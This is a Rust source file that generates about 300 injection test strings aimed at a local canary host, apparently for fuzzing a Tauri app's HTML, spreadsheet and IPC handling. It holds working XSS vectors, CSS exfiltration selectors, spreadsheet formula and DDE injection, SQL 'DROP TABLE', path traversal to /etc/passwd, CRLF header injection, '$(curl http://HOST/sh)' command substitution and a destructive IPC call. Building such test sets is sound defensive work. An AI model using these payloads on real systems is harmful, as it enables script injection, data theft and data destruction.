//! Three hundred texts that would do something if a page, a spreadsheet or a sentence took them for more than text. All
//! are made up here; what they try to reach is an address on this computer that counts who comes.

/// What a text tries to do. Whatever element it makes has the class `zz`.
const DEEDS: [&str; 10] = [
    "window.__canary=1",
    "alert(1)",
    "fetch('http://HOST/f')",
    "new Image().src='http://HOST/i'",
    "location='http://HOST/l'",
    "document.body.append(Object.assign(document.createElement('b'),{className:'zz'}))",
    "import('http://HOST/m.js')",
    "navigator.sendBeacon('http://HOST/b')",
    "open('http://HOST/o')",
    "top.__canary=document.title='zz'",
];

/// How it tries, with its deed for `%`.
const WAYS: [&str; 24] = [
    "<script class=zz>%</script>",
    "<img class=zz src=x onerror=\"%\">",
    "\"><img class=zz src=x onerror=\"%\">",
    "'><svg class=zz onload=\"%\">",
    "<svg class=zz><script>%</script></svg>",
    "<svg class=zz><a><animate attributeName=href values=\"javascript:%\" begin=0s /><text>x</text></a></svg>",
    "<svg class=zz><set attributeName=onmouseover to=\"%\" /></svg>",
    "<math class=zz><mtext><table><mglyph><style><!--</style><img title=\"--><img class=zz src=1 onerror=%>\">",
    "<noscript class=zz><p title=\"</noscript><img class=zz src=x onerror=%>\">",
    "<details class=zz open ontoggle=\"%\">more</details>",
    "<input class=zz autofocus onfocus=\"%\">",
    "<a class=zz href=\"javascript:%\">look</a>",
    "<a class=zz href=\"jav&#x09;ascript&colon;%\">look</a>",
    "<iframe class=zz src=\"javascript:%\"></iframe>",
    "<iframe class=zz srcdoc=\"<script>%</script>\"></iframe>",
    "<object class=zz data=\"data:text/html,<script>%</script>\"></object>",
    "</textarea></title></style><script class=zz>%</script>",
    "</option></select><img class=zz src=x onerror=\"%\">",
    "<video class=zz><source onerror=\"%\"></video>",
    "<form class=zz action=\"javascript:%\"><button formaction=\"javascript:%\">send</button></form>",
    "<template class=zz><script>%</script></template><template shadowrootmode=open><script>%</script></template>",
    "{{constructor.constructor(\"%\")()}} {@html `%`} ${%} <%= % %> #{%}",
    "&lt;img class=zz src=x onerror=\"%\"&gt; &#60;script&#62;%&#60;/script&#62;",
    "`;%;//';%;//\";%;//--></script><script class=zz>%</script>",
];

/// What needs no deed: addresses that are fetched, styles, letters that hide or turn others, formulas, long words.
const OTHERS: [&str; 57] = [
    "<link class=zz rel=stylesheet href=http://HOST/s.css>",
    "<link class=zz rel=prefetch href=http://HOST/p><link class=zz rel=dns-prefetch href=//HOST>",
    "<style class=zz>@import 'http://HOST/i.css';</style>",
    "<style class=zz>*{background:url(http://HOST/u)!important}</style>",
    "<style class=zz>input[value^=a]{background:url(http://HOST/a)}</style>",
    "<style class=zz>@font-face{font-family:x;src:url(http://HOST/x.woff2)}*{font-family:x}</style>",
    "<p class=zz style=\"position:fixed;inset:0;background:red;z-index:99999\">cover</p>",
    "<p class=zz style=\"background:url('http://HOST/bg')\">style</p>",
    "<meta class=zz http-equiv=refresh content=\"0;url=http://HOST/r\">",
    "<meta class=zz http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base class=zz href=http://HOST/>",
    "<img class=zz src=http://HOST/img.png>",
    "<img class=zz srcset='http://HOST/1x.png 1x' loading=eager>",
    "<picture class=zz><source srcset=http://HOST/pic></picture>",
    "<audio class=zz src=http://HOST/a.mp3 autoplay></audio>",
    "<embed class=zz src=http://HOST/e.swf>",
    "<body class=zz background=http://HOST/body>",
    "<table class=zz background=http://HOST/table><td background=http://HOST/td>",
    "<svg class=zz><image href=http://HOST/svg.png /><use href=http://HOST/u.svg#a /></svg>",
    "<svg class=zz><foreignObject><iframe class=zz src=http://HOST/fo></iframe></foreignObject></svg>",
    "<a class=zz ping=http://HOST/ping href=http://HOST/a>ping</a>",
    "<a class=zz href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<a class=zz target=_blank href=\"tauri://localhost/\">own page</a>",
    "<portal class=zz src=http://HOST/portal></portal><frameset class=zz><frame src=http://HOST/frame></frameset>",
    "<marquee class=zz onstart=alert(1)>round</marquee><blink class=zz>on and off</blink>",
    "<plaintext class=zz>",
    "<!--[if IE]><script class=zz>alert(1)</script><![endif]-->",
    "<![CDATA[<script class=zz>alert(1)</script>]]>",
    "<?xml-stylesheet class=zz href=\"http://HOST/x.xsl\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://HOST/e\">]><x class=zz>&e;</x>",
    "![look](http://HOST/markdown.png) [link](javascript:alert(1))",
    "=HYPERLINK(\"http://HOST/h\",\"look\")",
    "=WEBSERVICE(\"http://HOST/w\")",
    "+IMPORTXML(\"http://HOST/x\",\"//a\")",
    "-1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1＋1 and ＠SUM in wide letters",
    "\u{202e}gpj.exe turned by a mark",
    "left \u{202d}to\u{202c} right \u{2066}kept\u{2069} apart \u{200f}here",
    "zero\u{200b}width\u{200c}letters\u{200d}between\u{2060}these and\u{feff} those",
    "tags \u{e0041}\u{e0042}\u{e0043} nobody sees",
    "Z\u{334}\u{35b}\u{321}\u{353}a\u{338}\u{344}\u{323}l\u{335}\u{30d}\u{32f}g\u{337}\u{357}\u{359}o\u{336}\u{313}\u{31e}",
    "bell\u{7} escape \u{1b}[31mred\u{1b}[0m back\u{8}space delete\u{7f}",
    "next line\u{85}and line\u{2028}and paragraph\u{2029}marks",
    "<scr\u{200b}ipt class=zz>alert(1)</scr\u{200b}ipt>",
    "＜script class=zz＞alert(1)＜/script＞",
    "\u{fdfa}\u{fdfa}\u{fdfa}\u{fdfa} words that are one letter",
    "__proto__[polluted]=1&constructor.prototype.polluted=1",
    "{\"__proto__\":{\"polluted\":true},\"toString\":null}",
    "'); DROP TABLE products; --",
    "../../../../etc/passwd and C:\\Windows\\System32\\config",
    "{ $count } { page-title } { \"\\u0041\" } -> *[other] {",
    "%s %n %x %00 %0d%0aSet-Cookie:zz=1 \\u003cscript\\u003e \\x3c",
    "$(curl http://HOST/sh) `curl http://HOST/sh` | curl http://HOST/sh",
    "null undefined NaN Infinity [object Object] true",
    "ipc://localhost/mutate http://ipc.localhost/mutate tauri://localhost/index.html",
    "window.__TAURI_INTERNALS__.invoke('mutate',{act:{do:'forget_all'}})",
];

/// Three hundred texts; what they reach for is at `host`.
pub fn payloads(host: &str) -> Vec<String> {
    let tried = WAYS.iter().flat_map(|way| DEEDS.iter().map(|deed| way.replace('%', deed)));
    let long = ["W".repeat(20_000), "<b class=zz>".repeat(800), "\u{5f25}".repeat(4_000)];
    let all = tried.chain(OTHERS.iter().map(|text| (*text).to_owned())).chain(long);
    all.map(|text| text.replace("HOST", host)).collect()
}
